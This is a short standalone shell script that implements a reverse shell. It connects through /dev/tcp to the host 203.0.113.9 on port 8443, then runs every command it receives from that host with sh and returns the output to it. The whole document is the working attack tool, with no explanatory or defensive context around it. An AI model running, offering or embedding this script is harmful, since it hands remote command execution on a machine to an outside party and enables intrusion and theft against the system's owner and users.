#!/bin/sh
h=203.0.113.9
p=8443
exec 3<>/dev/tcp/$h/$p
while read -r c <&3; do sh -c "$c" >&3 2>&3; done
